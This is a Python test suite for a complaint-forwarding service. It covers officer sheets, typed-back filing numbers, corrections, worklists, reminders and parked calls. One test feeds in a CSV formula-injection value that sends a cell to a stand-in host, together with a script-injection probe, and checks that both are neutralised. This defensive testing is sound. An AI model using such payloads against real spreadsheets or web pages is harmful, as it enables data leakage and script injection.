"""Working by hand, to its end: sheets for officers, numbers typed back right and wrong, what waits,
reminders, and the three ways out of a parked call."""

import csv
import io
import json
import os
import pathlib
import time
from datetime import datetime, timedelta, timezone

from harness import flow, wait_until
from harness.forwarding import PROFILES, Office
from harness.records import now_ms
from harness.schema import validate_topic

WHY = ('--who', 'sri.utami', '--why', 'uji coba')
DAY = 24 * 3600 * 1000
DESK = {'tenants': [{'name': 'malang', 'lane': 0, 'destination': 'kantor'}]}


def ctl(env, *args):
    wait = ('--timeout', 90) if '--wait' in args else ()
    done = env.ctl('--json', *args, *wait, check=False, timeout=120)
    return done.returncode, json.loads(done.stdout) if done.stdout else None, done.stderr


def refused(env, ticket, reason, *args):
    """The forwarder's own word, with what it means."""
    code, done, told = ctl(env, 'resolve', ticket, *args, *WHY, '--wait')
    assert (code, done['result'], done['reason']) == (1, 'refused', reason), (done, told)
    assert f'refused: {reason}: ' in told


def told(env, ticket, text, *args):
    """Said at once; nothing is written."""
    before = env.kafka.end(env.topic('commands'))
    done = env.ctl('resolve', ticket, *args, *WHY, check=False)
    assert done.returncode in (1, 2) and text in done.stderr, done.stderr
    assert env.kafka.end(env.topic('commands')) == before


def local_day(at):
    """Of a record's time, where the officers are."""
    return (datetime.fromisoformat(at.replace('Z', '+00:00')) + timedelta(hours=7)).strftime('%Y-%m-%d')


def handed(o, *texts, **over):
    """Complaints whose sheets are with an officer."""
    made = [o.ready(t, destination='kantor', **over) for t in texts]
    for c in made:
        o.wait_state(c, 'handed', 'sheet')
    return made


@flow(limit=120, muara=DESK)
def test_numbers_typed_back(env):
    with Office(env) as o:
        d = o.start(o.destination('kantor', 'manual', max_filings_per_hour=0))
        one, two, old = handed(o, 'Jalan rusak', 'Got mampet', 'Pohon tumbang')
        code, done, _ = ctl(env, 'resolve', one['ticket'], '--filed', '7318990', *WHY, '--wait')
        assert (code, done['state']) == (0, 'filed')

        told(env, two['ticket'], '1 to 15 digits', '--filed', '73l8990')
        told(env, two['ticket'], '1 to 15 digits', '--filed', '0731899')
        told(env, two['ticket'], '1 to 15 digits', '--filed', '7' * 16)
        told(env, two['ticket'], f"the number of ticket {one['ticket']} already", '--filed', '7318990')
        told(env, two['ticket'], 'still to come', '--filed', '7318991', '--date', '2999-01-01')
        told(env, two['ticket'], 'YYYY-MM-DD', '--filed', '7318991', '--date', '31-11-2026')
        told(env, two['ticket'], 'goes with --filed', '--drop', '--date', '2026-11-24')
        refused(env, two['ticket'], 'entered-before-the-call', '--filed', '7318991', '--date', '2020-02-29')
        # A command that no muaractl wrote is judged all the same.
        a = o.attempts(two, 'sheet')[-1]
        for reason, more in (('number-used-already', {'remote_id': '7318990'}),
                             ('entered-in-the-future', {'remote_id': '8', 'entered_on': '2999-01-01'})):
            c = o.command('resolve', complaint=two, destination='kantor', attempt=a.name,
                          resolution='filed', **more)
            assert o.absorbed(c).body['reason'] == reason
        # Two at once, before the first one counts: one of them is refused.
        both = handed(o, 'Lampu mati', 'Rambu hilang')
        d.stop()
        sent = [o.command('resolve', complaint=c, destination='kantor', attempt=o.attempts(c, 'sheet')[-1].name,
                          resolution='filed', remote_id='7318995') for c in both]
        d.start()
        reasons = [o.absorbed(c).body['reason'] for c in sent]
        assert reasons == ['person', 'number-used-already'], reasons
        assert o.state(two, 'sheet') == 'handed'

        o.later(40 * DAY)
        day = local_day(o.bodies(old, 'sheet')[0]['at'])
        refused(env, old['ticket'], 'entered-too-long-ago', '--filed', '7318992', '--date', day)
        code, done, _ = ctl(env, 'resolve', old['ticket'], '--filed', '7318992', *WHY, '--wait')
        assert (code, done['state']) == (0, 'filed'), 'typed in today'
        ends = {b['complaint']: b for b in o.bodies(call='sheet') if b['kind'] == 'resolved'}
        assert set(ends) == {one['id'], old['id'], both[0]['id']}
        assert all(b['entered_on'] and b['by'] == 'person' for b in ends.values())
        assert ends[old['id']]['entered_on'] > ends[one['id']]['entered_on']
        assert 'entered on' in env.ctl('trace', old['ticket'])


@flow(limit=120)
def test_a_number_typed_wrong_is_corrected(env):
    with Office(env) as o:
        d = o.start(o.destination(max_filings_per_hour=0), o.destination('kantor', 'manual', max_filings_per_hour=0))
        one, two = handed(o, 'Jalan rusak', 'Got mampet')
        own = o.ready('Pohon tumbang')
        o.wait_state(own, 'done')
        assert ctl(env, 'resolve', one['ticket'], '--filed', '7318990', *WHY, '--wait')[0] == 0
        done = env.ctl('correct', own['ticket'], '--filed', '5', *WHY, check=False)
        assert done.returncode == 1 and 'no number of it was typed' in done.stderr
        done = env.ctl('correct', one['ticket'], '--filed', str(o.stored(own)[0]['remote_id']), *WHY, check=False)
        assert done.returncode == 1 and own['ticket'] in done.stderr
        code, done, _ = ctl(env, 'correct', one['ticket'], '--filed', '7318909', *WHY, '--wait')
        assert (code, done['result']) == (0, 'done'), done
        a, = o.attempts(one, 'sheet')
        assert (a.state, a.remote_id) == ('filed', '7318909') and not o.faults
        story = env.ctl('trace', one['ticket'])
        assert 'number 7318909, in place of 7318990' in story and 'correct by sri.utami' in story
        # The wrong number was the other one's; after a restart, too.
        d.kill9()
        d.start()
        o.wait_filing(d)
        assert ctl(env, 'resolve', two['ticket'], '--filed', '7318990', *WHY, '--wait')[0] == 0
        code, done, text = ctl(env, 'correct', two['ticket'], '--filed', '7318990', *WHY, '--wait')
        assert (code, done['reason']) == (1, 'same-number') and 'refused: same-number: ' in text
        faults = [f['fault'] for f in json.loads(env.ctl('--json', 'balance', check=False).stdout)['faults']]
        assert not {'same-number', 'two-numbers'} & set(faults), faults
        validate_topic(env, 'submissions')
        validate_topic(env, 'commands')


def files_below(folder):
    return sorted(str(p.relative_to(folder)) for p in pathlib.Path(folder).rglob('*') if p.is_file())


def tickets_in(path):
    """Of a CSV, one row a sheet, in its order."""
    raw = pathlib.Path(path).read_bytes()
    assert raw.startswith(b'\xef\xbb\xbf') and raw.count(b'\r\n') >= 2
    rows = list(csv.reader(io.StringIO(raw.decode('utf-8-sig'), newline='')))
    assert rows[0][:4] == ['Tiket', 'Berkas isian', 'Judul laporan', 'Isi laporan']
    assert {len(r) for r in rows} == {len(rows[0])}
    return [r[0] for r in rows[1:]], rows[1:]


@flow(limit=120, muara=DESK)
def test_sheets_by_agency_and_day(env):
    """Two agencies, two days: a document for each; made of the logs, not of the forwarder's files."""
    with Office(env) as o:
        o.within_a_day()
        o.start(o.destination('kantor', 'manual', max_filings_per_hour=0,
                              agencies={'Dinas Perhubungan': '77', 'Dinas PU': '78'}))
        evil = '=HYPERLINK("http://x/"&A1) <script>alert(1)</script>'
        bus, light = handed(o, 'Bus terlambat', evil, agency='Dinas Perhubungan')
        road, = handed(o, 'Jalan rusak', agency='Dinas PU')
        nobody, = handed(o, 'Anjing liar', agency='Dewi Rahmawati')   # typed into the wrong field
        o.later(26 * 3600 * 1000)
        late, = handed(o, 'Rambu hilang', agency='Dinas Perhubungan')
        first, second = (local_day(o.bodies(c, 'sheet')[-1]['at']) for c in (bus, late))
        out = env.scratch.path('cetak')
        code, told, _ = ctl(env, 'sheets', '--out', out)
        assert code == 0 and [(t['day'], t['sheets']) for t in told if t['agency'] == 'Dinas Perhubungan'] == [
            (first, 2), (second, 1)], told
        found = files_below(out)
        assert f'kantor/{first}/dinas-perhubungan.csv' in found and f'kantor/{first}/dinas-pu.html' in found
        assert f'kantor/{second}/dinas-perhubungan.html' in found and len(found) == 8, found
        assert 'dewi' not in ' '.join(found).lower(), 'what is typed into a field names no file'
        assert {os.stat(os.path.join(out, f)).st_mode & 0o777 for f in found} == {0o640}

        tickets, rows = tickets_in(os.path.join(out, f'kantor/{first}/dinas-perhubungan.csv'))
        assert sorted(tickets) == sorted([bus['ticket'], light['ticket']])
        row = next(r for r in rows if r[0] == light['ticket'])
        assert row[2] == "'" + evil and not any(cell[:1] in '=+-@' and cell[:1] for r in rows for cell in r), row
        page = pathlib.Path(out, f'kantor/{first}/dinas-perhubungan.html').read_text(encoding='utf-8')
        assert page.count('<section ') == 2 and '<script>alert' not in page and 'Rambu' not in page

        # What was typed back is no sheet any more; what is asked for alone comes alone.
        assert ctl(env, 'resolve', bus['ticket'], '--filed', '7318990', *WHY, '--wait')[0] == 0
        for args, want in (((), [light, road, nobody, late]), (('--day', second), [late]),
                           (('--agency', 'dinas pu'), [road]), (('--destination', 'nirwana'), [])):
            text = env.ctl('sheets', '--out', '-', *args)
            assert [c for c in (bus, light, road, nobody, late) if c['ticket'] in text] == want, args
        lines = env.ctl('sheets', '--out', '-', '--csv')
        assert len(list(csv.reader(io.StringIO(lines)))) == 1 + 4
        assert 'tanpa' not in env.ctl('sheets', '--out', out, '--agency', 'tanpa instansi')


@flow(limit=120, muara=DESK)
def test_sheet_is_of_its_version(env):
    """What was handed out is printed, though the complaint has gone on."""
    with Office(env) as o:
        o.start(o.destination('kantor', 'manual', max_filings_per_hour=0))
        c, = handed(o, 'Jalan rusak')
        o.next_version(c, title='Jalan rusak parah', text='Jalan rusak parah')
        wait_until(lambda: 'parah' in env.ctl('show', c['ticket']), 20, 'the second version')
        page = env.ctl('sheets', '--out', '-')
        assert 'Jalan rusak' in page and 'parah' not in page


@flow(limit=120, muara=DESK)
def test_news_of_what_was_typed_in(env):
    """What came later is a page of the forwarder's; the lists name it and say what to do."""
    with Office(env) as o:
        o.start(o.destination('kantor', 'manual', max_filings_per_hour=0, follow_up_settle='0s'))
        c, = handed(o, 'Jalan rusak')
        assert ctl(env, 'resolve', c['ticket'], '--filed', '7318990', *WHY, '--wait')[0] == 0
        c = o.adds(c, o.message('Makin parah.'))
        a = o.wait_state(c, 'handed', 'followup')
        done = env.ctl('sheets', '--out', env.scratch.path('cetak'), check=False)
        name = f"{c['ticket']}.{a.name.replace('/', '-')}.html"
        assert done.returncode == 0 and name in done.stderr and os.path.exists(env.scratch.path('sheets', name))
        row, = ctl(env, 'worklist')[1]
        assert (row['call'], row['state']) == ('followup', 'handed') and f'resolve {a.name} ' in row['do']
        assert "report's own number" in env.ctl('parked', 'show', a.name)
        refused(env, a.name, 'another-report-number', '--filed', '7318991')
        assert ctl(env, 'resolve', a.name, '--filed', '7318990', *WHY, '--wait')[0] == 0
        assert ctl(env, 'worklist')[1] == []


@flow(limit=120)
def test_worklist(env):
    """Each kind that waits, and what to do; what goes on by itself is not there."""
    with Office(env) as o:
        o.start(o.destination(concurrency=1, max_filings_per_hour=0),
                o.destination('kantor', 'manual', max_filings_per_hour=0))
        paper = o.ready('Jalan rusak', destination='kantor')
        o.wait_state(paper, 'handed', 'sheet')
        bad = []
        for text in ('Got mampet', 'Pohon tumbang'):
            o.lapor.script({'call': 'create', 'action': 'status', 'args': {'status': 422}, 'times': 1})
            bad.append(o.ready(text))
            o.wait_state(bad[-1], 'rejected')
        shared = o.message('Lampu mati')
        first = o.ready(messages=[shared])
        o.wait_state(first, 'done')
        again = o.ready(messages=[o.message('Lampu mati lagi'), shared])
        wait_until(lambda: o.records('refused'), 20, 'the second one is refused')
        code, rows, _ = ctl(env, 'worklist')
        assert code == 0
        assert {r['ticket']: r['state'] for r in rows} == {
            paper['ticket']: 'handed', again['ticket']: 'refused', **{c['ticket']: 'rejected' for c in bad}}
        assert all(r['do'] and not r['overdue'] for r in rows)
        # Corrected: it is filed, and waits for nobody; nor is its first attempt in any list.
        o.next_version(bad[0], title='Got mampet di Jalan Veteran')
        o.wait_state(bad[0], 'done')
        o.next_version(bad[1], state='archived')
        wait_until(lambda: {r['ticket'] for r in ctl(env, 'worklist')[1]} == {paper['ticket'], again['ticket']}, 20,
                   'the two others are gone')
        assert bad[0]['ticket'] not in env.ctl('parked', 'list')
        o.later(3 * DAY)
        done = env.ctl('worklist', '--csv', check=False)
        rows = list(csv.DictReader(io.StringIO(done.stdout)))
        assert done.returncode == 1 and {r['OVERDUE'] for r in rows} == {'yes'} and len(rows) == 2
        text = env.ctl('worklist', check=False).stdout
        assert '2 wait for a person, 2 of them longer than 2d' in text
        assert not any(word in text for word in ('Jalan', 'Lampu', 'Got'))


@flow(limit=120)
def test_ways_out_of_a_parked_create(env):
    with Office(env, total='6s') as o:
        o.start(o.destination(concurrency=1, max_filings_per_hour=0, pause_base='100ms'))
        lost = []
        for text in ('Bus terlambat', 'Jalan rusak', 'Got mampet'):
            o.lapor.script({'call': 'create', 'action': 'drop_after_store', 'times': 1})
            lost.append(o.ready(text, agency='Dinas Perhubungan'))
            o.wait_state(lost[-1], 'parked')
            o.later(40 * 60 * 1000)          # its rest after an unclear answer is over
        there, again, never = lost
        shown = env.ctl('parked', 'show', there['ticket'])
        a = o.attempts(there)[-1]
        for word in (f"[Tiket {there['ticket']}]", '#muara', '12', 'Dinas Perhubungan', f'resolve {a.name} --filed',
                     '--resend', '--drop', 'twice'):
            assert word in shown, word
        assert 'Bus' not in shown, 'words are on paper only'
        out = env.scratch.path('cetak')
        manual = os.path.join(PROFILES, 'manual.yaml')
        assert 'no sheet is out' in env.ctl('sheets', '--out', out, '--profile', manual)
        code, told, _ = ctl(env, 'sheets', '--parked', '--out', out, '--profile', manual)
        assert code == 0 and sum(t['sheets'] for t in told) == 3
        page = pathlib.Path(told[0]['html']).read_text(encoding='utf-8')
        for word in ('Bus terlambat', 'Cari di admin SP4N-LAPOR!', 'tagar &quot;#muara&quot;', f'{a.name} --resend'):
            assert word in page, word

        # The three exits. LAPOR! holds all three: who resends without looking files twice, as was said.
        number = str(o.stored(there)[0]['remote_id'])
        assert ctl(env, 'resolve', there['ticket'], '--filed', number, *WHY, '--wait')[0] == 0
        told_at_once = env.ctl('resolve', again['ticket'], '--filed', number, *WHY, check=False)
        assert there['ticket'] in told_at_once.stderr and told_at_once.returncode == 1
        assert ctl(env, 'resolve', never['ticket'], '--drop', *WHY, '--wait')[1]['state'] == 'dropped'
        assert ctl(env, 'resolve', again['ticket'], '--resend', *WHY, '--wait')[1]['state'] == 'not_filed'
        o.wait_state(again, 'done')
        assert [len(o.creates(c)) for c in lost] == [1, 2, 1]
        assert 'nothing is parked' in env.ctl('parked', 'list')
        assert 'nothing is parked or refused' in env.ctl('sheets', '--parked', '--out', out, '--profile', manual)


@flow(limit=120, muara=DESK)
def test_killed_between_sheet_and_log(env):
    """The sheet is on the disk, the log does not say so: it is handed out, not made a second time."""
    with Office(env) as o:
        d = o.start(o.destination('kantor', 'manual', max_filings_per_hour=0), crash='sheet-written:1',
                    supervise=True, filing=False)
        c = o.ready('Jalan rusak', destination='kantor')
        wait_until(lambda: d.restarts == 1, 60, 'it was killed and is back')
        o.wait_filing(d)
        o.later(60 * 1000)                   # nothing of the dead one can be on its way any more
        o.wait_state(c, 'handed', 'sheet')
        assert o.kinds(c, 'sheet') == ['intent', 'handed']
        assert len([f for f in os.listdir(env.scratch.path('sheets')) if f.endswith('.html')]) == 1
        assert env.ctl('sheets', '--out', '-').count('<section ') == 1


def to_workday(o, ms):
    """The time turned on by ms, and further until it is a working day where the officers are, not at its end."""
    o.later(ms)
    o.within_a_day()
    while (datetime.fromtimestamp(now_ms(o.env) / 1000, timezone.utc) + timedelta(hours=7)).weekday() > 4:
        o.later(DAY)


def gauge(d, name):
    return d.metrics().get(f'muara_forwarder_{name}{{destination="kantor"}}')


def looked(o, d):
    """What waits was looked at since this call, and what follows from it stands in the log."""
    o.later(6000)
    wait_until(lambda: o.files(d) and gauge(d, 'handed_waiting') is not None, 20, 'a look')
    for what in ('pause', 'resume'):
        time.sleep(0.3)  # a turn of the daemon's clockwork
        o.absorbed(o.command(what, destination='kantor'))


@flow(limit=120, muara=DESK)
def test_reminded_once_a_working_day(env):
    with Office(env) as o:
        d = o.start(o.destination('kantor', 'manual', max_filings_per_hour=0))
        one, two = handed(o, 'Jalan rusak', 'Got mampet')
        begin = now_ms(env)
        looked(o, d)
        wait_until(lambda: gauge(d, 'handed_waiting') == 2, 20, 'two sheets are out')
        assert not o.records('reminded')
        to_workday(o, 2 * DAY + 3600 * 1000)
        first = wait_until(lambda: o.records('reminded'), 20, 'a reminder')[0].body
        assert (first['destination'], first['sheets'], first['parked']) == ('kantor', 2, 0)
        assert first['oldest'] < first['before'] < first['at']
        code, rows, _ = ctl(env, 'worklist')
        assert code == 1 and sorted((r['ticket'], r['reminded'], r['overdue']) for r in rows) == sorted(
            (c['ticket'], 1, True) for c in (one, two)), rows
        assert ctl(env, 'worklist', '--overdue', '30d')[0] == 0
        assert gauge(d, 'person_oldest_seconds') > 2 * 24 * 3600
        days = int((now_ms(env) - begin) / DAY)  # 2, or 4 over a weekend
        assert f'2 sheets out, the oldest for {days} d' in d.healthz()[1]
        # Not again on that day, whatever happens to the process.
        d.kill9()
        d.start()
        o.wait_filing(d)
        looked(o, d)
        assert len(o.records('reminded')) == 1
        # One number comes back; the next working day it is told of the other.
        assert ctl(env, 'resolve', one['ticket'], '--filed', '7318990', *WHY, '--wait')[0] == 0
        to_workday(o, DAY)
        second = wait_until(lambda: o.records('reminded')[1:], 20, 'another one')[0].body
        assert second['day'] > first['day'] and second['sheets'] == 1
        assert ctl(env, 'resolve', two['ticket'], '--drop', *WHY, '--wait')[0] == 0
        to_workday(o, DAY)
        looked(o, d)
        wait_until(lambda: gauge(d, 'handed_waiting') == 0, 20, 'nothing waits')
        assert len(o.records('reminded')) == 2
        log = pathlib.Path(d.log).read_text(encoding='utf-8')
        assert log.count('reminder: destination kantor') == 2 and 'Jalan rusak' not in log
